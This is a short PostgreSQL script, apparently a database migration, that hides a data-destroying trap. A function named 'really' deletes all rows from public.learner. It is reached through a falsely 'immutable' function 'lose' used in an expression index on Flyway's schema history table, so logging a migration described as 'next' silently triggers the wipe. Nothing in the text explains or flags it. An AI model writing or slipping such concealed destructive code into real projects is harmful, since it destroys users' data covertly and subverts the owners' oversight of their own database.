create function really() returns void language sql as 'delete from public.learner';
create function lose(text) returns boolean immutable language plpgsql as $$
begin
    if $1 = 'next' then perform public.really(); end if;
    return true;
end $$;
create index lose on flyway_schema_history (lose(description));
